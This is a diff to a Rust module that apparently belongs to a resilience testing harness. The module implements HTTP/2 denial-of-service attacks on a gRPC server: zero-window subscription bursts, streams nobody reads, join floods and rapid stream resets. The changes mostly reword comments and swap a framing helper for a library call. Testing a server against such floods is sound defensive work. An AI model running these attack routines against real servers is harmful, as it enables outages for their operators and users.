@@ -1,4 +1,4 @@
-//! Attacks by HTTP/2: a client that answers pings and never opens a window, floods of calls, floods of resets.
+//! Attacks by HTTP/2: clients that answer pings and never open a window, floods of calls and of resets.
 
 use std::future::pending;
 use std::net::Ipv4Addr;
@@ -17,22 +17,22 @@ use tokio::time::timeout;
 use super::Target;
 use crate::relay::connect;
 
-/// A step of a connection or a call that is not done by then is given up.
+/// Time limit of a step of a connection or call.
 const STEP_TIMEOUT: Duration = Duration::from_millis(500);
-/// Bursts of subscriptions, and how many are in one: as many as a user may have open.
+/// Bursts of subscriptions, and subscriptions in each: the limit of a user.
 const BURSTS: usize = 2;
 const SUBSCRIPTIONS: usize = 16;
 /// The smallest windows: nothing, and the first frame.
 const WINDOWS: [u32; BURSTS] = [0, 30];
-/// Connections with unread streams, and how many streams each has.
+/// Connections with unread streams, and streams in each.
 const UNREAD_CONNECTIONS: usize = 4;
 const UNREAD_STREAMS: usize = 100;
 /// Joins of one flood.
 const JOINS: usize = 300;
-/// Calls that are opened and reset by one connection, unless the server ends it before.
+/// Calls that one connection opens and resets, unless the server closes it.
 const RESETS: usize = 400;
 
-/// A window of nothing and many subscriptions in one burst.
+/// Bursts of subscriptions without a window.
 pub(super) async fn zero_window(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
     let message = pb::SubscribeRequest::default();
     for window in WINDOWS {
@@ -45,7 +45,7 @@ pub(super) async fn zero_window(target: &Target, source: Ipv4Addr, tasks: &mut J
     }
 }
 
-/// Very many greetings that nobody takes.
+/// Long streams that nobody reads.
 pub(super) async fn unread(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
     let message = HelloRequest { name: "Mallory".to_owned() };
     let endless = [("x-greeter-count", "100000"), ("x-greeter-interval-ms", "0")];
@@ -61,7 +61,7 @@ pub(super) async fn unread(target: &Target, source: Ipv4Addr, tasks: &mut JoinSe
     }
 }
 
-/// As many guests as one connection can make.
+/// A flood of joins over one connection.
 pub(super) async fn joins(target: &Target, source: Ipv4Addr, rng: &mut Rng, tasks: &mut JoinSet<()>) {
     let Some(mut sender) = handshake(target, source, 65_535, tasks).await else { return };
     let mut calls = Vec::new();
@@ -75,7 +75,7 @@ pub(super) async fn joins(target: &Target, source: Ipv4Addr, rng: &mut Rng, task
     hold(sender, calls, tasks);
 }
 
-/// Calls that are taken back as soon as they are made.
+/// Calls that are reset at once.
 pub(super) async fn resets(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
     let Some(mut sender) = handshake(target, source, 65_535, tasks).await else { return };
     let message = pb::ListRoomsRequest {};
@@ -100,7 +100,7 @@ async fn handshake(
     builder.initial_window_size(window);
     let (sender, connection) = timeout(STEP_TIMEOUT, builder.handshake(stream)).await.ok()?.ok()?;
     tasks.spawn(async {
-        // It answers pings for as long as the server bears it.
+        // It answers pings until the server closes it.
         connection.await.ok();
     });
     Some(sender)
@@ -122,7 +122,7 @@ async fn call(
     }
     let mut ready = timeout(STEP_TIMEOUT, sender.clone().ready()).await.ok()?.ok()?;
     let (answer, mut body) = ready.send_request(request.body(()).ok()?, false).ok()?;
-    body.send_data(framed(message), true).ok()?;
+    body.send_data(grpc_wire::message::encode(0, &message.encode_to_vec()), true).ok()?;
     *sender = ready;
     Some(answer)
 }
@@ -133,13 +133,4 @@ fn hold(sender: SendRequest<Bytes>, calls: Vec<ResponseFuture>, tasks: &mut Join
         let _held = (sender, calls);
         pending::<()>().await;
     });
-}
-
-/// One message as gRPC frames it.
-fn framed(message: &impl Message) -> Bytes {
-    let message = message.encode_to_vec();
-    let mut framed = vec![0];
-    framed.extend(u32::try_from(message.len()).unwrap_or(u32::MAX).to_be_bytes());
-    framed.extend(message);
-    framed.into()
 }
